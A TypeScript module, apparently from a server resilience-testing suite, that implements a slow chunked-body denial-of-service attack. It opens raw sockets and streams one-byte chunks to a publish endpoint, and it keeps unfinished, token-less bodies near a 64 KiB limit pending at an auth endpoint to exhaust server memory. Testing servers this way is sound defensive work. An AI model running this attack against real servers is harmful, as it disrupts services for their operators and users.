import type { Assault, Attack } from './attack.ts'
import { countHttp, headOf } from './raw-http.ts'
import { crowd, RawSocket } from './raw-socket.ts'

/** One byte of a body per chunk; six on the wire. */
const chunk = '1\r\n \r\n'
const chunksPerWrite = 10_000
const chunks = Buffer.from(chunk.repeat(chunksPerWrite))
/** The manifest of an app may have 64 KiB: a body that stays just below that is held until it ends or pauses for too long. */
const manifestChunks = Buffer.from(chunk.repeat(60_000))

/** Bodies in chunks of one byte: what is held per chunk costs far more than the byte. */
export const chunkedBody: Attack = {
  name: 'chunked-body',
  description: 'bodies in chunks of one byte: manifests without a token, and publishes',
  goal: { megabytes: 60 },
  async run(assault) {
    await Promise.all([
      crowd(4, assault.signal, () => endlessPublish(assault)),
      crowd(32, assault.signal, () => unfinishedManifest(assault)),
    ])
  },
}

const headers = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' }

async function endlessPublish(assault: Assault): Promise<void> {
  const { victim, signal } = assault
  const raw = await RawSocket.open(assault)
  if (raw === undefined) return
  const head = headOf(victim, { method: 'POST', path: '/api/v2/events/publish', headers })
  let isOpen = await raw.send(head, signal)
  while (isOpen) isOpen = await raw.send(chunks, signal)
  await countHttp(raw, assault)
}

async function unfinishedManifest(assault: Assault): Promise<void> {
  const { victim, signal } = assault
  const raw = await RawSocket.open(assault)
  if (raw === undefined) return
  const head = headOf(victim, { method: 'POST', path: '/api/v2/auth', headers, hasToken: false })
  if ((await raw.send(head, signal)) && (await raw.send(manifestChunks, signal))) await raw.hold(signal)
  await countHttp(raw, assault)
}
